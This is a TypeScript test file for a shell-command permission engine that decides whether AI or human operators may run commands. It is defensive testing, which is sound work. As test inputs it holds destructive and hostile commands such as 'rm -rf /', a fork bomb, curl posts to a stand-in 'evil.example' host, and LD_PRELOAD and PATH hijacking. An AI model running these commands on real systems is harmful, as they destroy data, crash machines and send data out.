import { isCmdopError } from '@cmdop/protocol'
import { describe, expect, test } from 'vitest'
import type { PolicyInput, PolicyRule } from '../rules/rule.ts'
import type { PolicyCall } from './call.ts'
import { type PolicyLayers, compilePolicy } from './compile-policy.ts'
import { decide } from './decide.ts'

const rule = (given: Partial<PolicyRule> & Pick<PolicyRule, 'id' | 'decision'>): PolicyRule => ({
  match: ['systemctl restart nginx'],
  notMatch: ['uptime'],
  ...given,
})

const restart = rule({ id: 'restart', decision: 'allow', command: { name: 'systemctl', args: ['restart', '*'] } })

const run = (layers: PolicyLayers, call: Partial<PolicyCall> | string) => {
  const given = typeof call === 'string' ? { command: call } : call
  return decide(compilePolicy(layers), { tool: 'exec', principalKind: 'ai', cwd: '/srv/app', ...given })
}
const fleet = (...rules: PolicyRule[]): PolicyLayers => ({ fleet: { rules } })

describe('the order', () => {
  const ask = rule({ id: 'ask', decision: 'ask', command: { name: 'systemctl' } })
  const deny = rule({ id: 'deny', decision: 'deny', command: { name: 'systemctl', args: ['restart', 'nginx'] } })

  test('deny is before ask, ask before allow, allow before the mode', () => {
    expect(run(fleet(restart, ask, deny), 'systemctl restart nginx')).toMatchObject({ decision: 'deny', rule: 'deny' })
    expect(run(fleet(restart, ask), 'systemctl restart nginx')).toMatchObject({ decision: 'ask', rule: 'ask' })
    expect(run(fleet(restart), 'systemctl restart nginx')).toMatchObject({ decision: 'allow', rule: 'restart' })
    expect(run({}, 'systemctl restart nginx')).toMatchObject({ decision: 'ask', rule: 'mode:default' })
  })

  test('rules of all layers hold together', () => {
    const layers = { fleet: { rules: [restart] }, machine: { rules: [deny] } }
    expect(run(layers, 'systemctl restart nginx')).toMatchObject({ decision: 'deny', layer: 'machine' })
    expect(run(layers, 'systemctl restart redis')).toMatchObject({ decision: 'allow', layer: 'fleet' })
  })

  test('the floor is under everything: what is catastrophic is asked about, under bypass and with a rule that allows it, too', () => {
    const anything = rule({
      id: 'any',
      decision: 'allow',
      class: ['read', 'delete'],
      match: ['rm x'],
      notMatch: ['touch x'],
    })
    const layers: PolicyLayers = { fleet: { mode: 'bypass', rules: [anything] } }
    expect(run(layers, 'rm x')).toMatchObject({ decision: 'allow', rule: 'any', deleting: true })
    expect(run(layers, 'rm -rf /')).toMatchObject({ decision: 'ask', rule: 'floor:catastrophic' })
    expect(run(layers, { tool: 'file.delete', paths: ['/etc'] })).toMatchObject({
      decision: 'ask',
      rule: 'floor:catastrophic',
    })
    expect(run(layers, ':(){ :|:& };:')).toMatchObject({ decision: 'ask' })
  })

  test.each(['approval.decide', 'policy.set', 'grant.create', 'effect.apply', 'ask.confirm', 'ask.pin'])(
    'an AI operator never uses %s',
    (tool) => {
      const layers: PolicyLayers = { fleet: { mode: 'bypass' } }
      expect(run(layers, { tool })).toMatchObject({ decision: 'deny', rule: 'floor:own-permission' })
      expect(run(layers, { tool, principalKind: 'human' })).toMatchObject({ decision: 'allow' })
    },
  )
})

describe('the modes', () => {
  test('default lets read and asks about the rest, strict denies, bypass lets', () => {
    const under = (mode: 'default' | 'strict' | 'bypass', command: string) => run({ fleet: { mode } }, command).decision
    expect(['ls', 'touch x', 'rm x', "echo 'a"].map((command) => under('default', command))).toEqual([
      'allow',
      'ask',
      'ask',
      'ask',
    ])
    expect(['ls', 'touch x', 'rm x', "echo 'a"].map((command) => under('strict', command))).toEqual([
      'deny',
      'deny',
      'deny',
      'deny',
    ])
    expect(['ls', 'touch x', 'rm x', "echo 'a"].map((command) => under('bypass', command))).toEqual([
      'allow',
      'allow',
      'allow',
      'allow',
    ])
  })

  test('the strictest of all layers holds, for each kind of principal', () => {
    const layers: PolicyLayers = {
      fleet: { mode: { ai: 'default', human: 'bypass' } },
      machine: { mode: 'bypass' },
      run: {},
    }
    expect(run(layers, 'touch x').decision).toBe('ask')
    expect(run(layers, { command: 'touch x', principalKind: 'human' }).decision).toBe('allow')
    expect(run({ ...layers, run: { mode: 'strict' } }, { command: 'touch x', principalKind: 'human' }).decision).toBe(
      'deny',
    )
  })

  test('under strict every command of a pipe needs a rule, and what only runs another does not', () => {
    const policy: PolicyInput = { mode: 'strict', rules: [restart] }
    expect(run({ fleet: policy }, 'sudo systemctl restart nginx').decision).toBe('allow')
    expect(run({ fleet: policy }, 'systemctl restart nginx | cat').decision).toBe('deny')
  })
})

describe('a rule that allows', () => {
  test.each([
    ['systemctl restart nginx', 'allow'],
    ['sudo systemctl restart nginx; uptime', 'allow'],
    ['/usr/bin/systemctl restart nginx', 'allow'],
    ['systemctl restart nginx; rm x', 'ask'],
    ['systemctl restart nginx redis', 'ask'],
    ['systemctl restart $X', 'ask'],
    ['systemctl restart "$X"', 'ask'],
    ['/tmp/systemctl restart nginx', 'ask'],
    ['./systemctl restart nginx', 'ask'],
    ['ssh web-1 systemctl restart nginx', 'ask'],
    ['systemctl restart nginx > out', 'ask'],
    ['PATH=/tmp systemctl restart nginx', 'ask'],
    ['systemctl restart nginx &&', 'ask'],
  ])('%s: %s', (command, decision) => {
    expect(run(fleet(restart), command).decision).toBe(decision)
  })

  test('takes unknown words only where it says so', () => {
    const any = rule({ id: 'any', decision: 'allow', command: { name: 'systemctl', args: ['restart', '<any>'] } })
    expect(run(fleet(any), 'systemctl restart "$X"').decision).toBe('allow')
    expect(run(fleet(any), 'systemctl restart $X').decision).toBe('ask')
  })

  test('needs every path inside, with the directory and the redirections', () => {
    const inside = rule({
      id: 'inside',
      decision: 'allow',
      class: ['change', 'delete'],
      paths: ['/srv/app/**'],
      match: ['rm /srv/app/old', 'cd /srv/app && rm old', 'file.delete /srv/app/old', 'echo x > /srv/app/y'],
      notMatch: [
        'rm /srv/app/../x',
        'rm /srv/app/old /etc/x',
        'rm old',
        'cd /srv/app; rm old',
        'echo x > /etc/y',
        'rm "$X"',
        'file.delete /srv/other',
      ],
    })
    expect(run(fleet(inside), 'rm -rf tmp').decision).toBe('allow')
    expect(run(fleet(inside), { command: 'rm -rf tmp', cwd: undefined }).decision).toBe('ask')
  })

  test('needs every host to fit', () => {
    const hosts = rule({
      id: 'hosts',
      decision: 'allow',
      command: { name: ['systemctl', 'curl'] },
      hosts: ['web-*', '*.internal'],
      match: [
        'ssh web-1 systemctl restart nginx',
        'curl -d x https://api.internal/deploy',
        'for h in web-1 web-2; do ssh $h systemctl restart nginx; done',
      ],
      notMatch: [
        'ssh db-1 systemctl restart nginx',
        'curl -d x https://evil.example/api.internal',
        'ssh $H systemctl restart nginx',
        'curl -d x https://web-1@evil.example/',
        'systemctl restart nginx',
      ],
    })
    expect(run(fleet(hosts), 'ssh root@web-9 systemctl restart nginx').decision).toBe('allow')
  })
})

describe('a rule that asks or denies', () => {
  const deny = (given: Partial<PolicyRule>) => fleet(rule({ id: 'deny', decision: 'deny', match: ['rm x'], ...given }))

  test('fits any command in it, wherever the program is and whoever runs it', () => {
    const layers = deny({ command: { name: 'rm' } })
    for (const command of [
      'ls; rm x',
      '/tmp/rm x',
      'sudo rm "$X"',
      'ssh web-1 rm x',
      'docker exec web rm x',
      'find . -exec rm {} +',
      "bash -c 'rm x'",
    ])
      expect(run(layers, { command, principalKind: 'human' })).toMatchObject({
        decision: 'deny',
        permittedBy: expect.stringMatching(/^Nothing/),
      })
  })

  test('fits the directory above what it keeps', () => {
    const layers = deny({ class: ['delete'], paths: ['/srv/data/**'], match: ['rm /srv/data/x'] })
    for (const command of [
      'rm -rf /srv',
      'rm -rf /srv/data',
      'rm /srv/data/*',
      'mv /srv/data/x /tmp',
      'sh -c "rm /srv/./data/x"',
    ])
      expect(run(layers, command).decision).toBe('deny')
    expect(run(layers, 'rm /srv/other').decision).toBe('ask')
    expect(run(layers, { tool: 'file.delete', paths: ['/srv'] }).decision).toBe('deny')
  })

  test('finds an option in a bundle, and is for some principals only', () => {
    const layers = deny({
      who: ['ai'],
      command: { name: 'git', args: ['push', '<any>...'], has: ['-f', '--force*'] },
      match: ['git push -uf origin', 'git push --force-with-lease'],
      notMatch: ['git push origin'],
    })
    expect(run(layers, 'git push -f').decision).toBe('deny')
    expect(run(layers, { command: 'git push -f', principalKind: 'human' }).decision).toBe('ask')
  })
})

describe('restrictions', () => {
  test('what the kernel holds is not asked about, by floor and mode', () => {
    expect(run({}, { command: 'rm -rf /', restrictions: { dryRun: true } })).toMatchObject({
      decision: 'allow',
      rule: 'restriction:dryRun',
    })
    expect(run({}, { command: './x', restrictions: { readOnly: true } }).decision).toBe('allow')
    expect(run({}, { command: 'rm x', restrictions: { noDelete: true } })).toMatchObject({
      decision: 'allow',
      rule: 'restriction:noDelete',
    })
    expect(run({}, { command: 'touch x', restrictions: { noDelete: true } }).decision).toBe('ask')
    expect(run({}, { command: 'rm x; ./y', restrictions: { noDelete: true } }).decision).toBe('ask')
    expect(run({}, { command: 'rm x', restrictions: { dryRun: true, network: 'host' } }).decision).toBe('ask')
    expect(run({}, { command: 'rm x', restrictions: { noSudo: true } }).decision).toBe('ask')
  })

  test('rules hold all the same', () => {
    const deny = rule({ id: 'deny', decision: 'deny', command: { name: 'rm' }, match: ['rm x'] })
    expect(run(fleet(deny), { command: 'rm x', restrictions: { dryRun: true } }).decision).toBe('deny')
  })
})

describe('a rule is refused', () => {
  const refusal = (layers: PolicyLayers) => {
    try {
      compilePolicy(layers)
    } catch (error) {
      return isCmdopError(error) ? { code: error.code, details: error.details } : error
    }
    return undefined
  }

  test('when an example contradicts it', () => {
    expect(refusal(fleet({ ...restart, match: ['uptime'] }))).toEqual({
      code: 'validation',
      details: { rule: 'restart', layer: 'fleet', example: 'uptime', expected: 'to match' },
    })
    expect(refusal(fleet({ ...restart, notMatch: ['systemctl restart nginx'] }))).toMatchObject({
      details: { expected: 'not to match' },
    })
  })

  test('when it has no examples, is there twice, or is one of too many', () => {
    expect(refusal(fleet({ ...restart, match: [] }))).toMatchObject({ code: 'validation' })
    expect(refusal(fleet(restart, restart))).toMatchObject({ code: 'validation' })
    const many = Array.from({ length: 1001 }, (_, index) => ({ ...restart, id: `r${index}` }))
    expect(refusal({ fleet: { rules: many }, machine: { rules: many } })).toMatchObject({ code: 'validation' })
  })
})

test('the variables of a call count as those of its command', () => {
  expect(run({}, { command: 'ls', env: { LANG: 'C', TZ: null } }).decision).toBe('allow')
  expect(run({}, { command: 'ls', env: { LD_PRELOAD: './evil.so' } })).toMatchObject({ decision: 'ask' })
  expect(run(fleet(restart), { command: 'systemctl restart nginx', env: { PATH: '/tmp' } }).decision).toBe('ask')
  expect(run({}, { command: 'eval "$CMDOP_CARRY"; ls', env: { CMDOP_CARRY: 'rm x' } }).decision).toBe('ask')
})
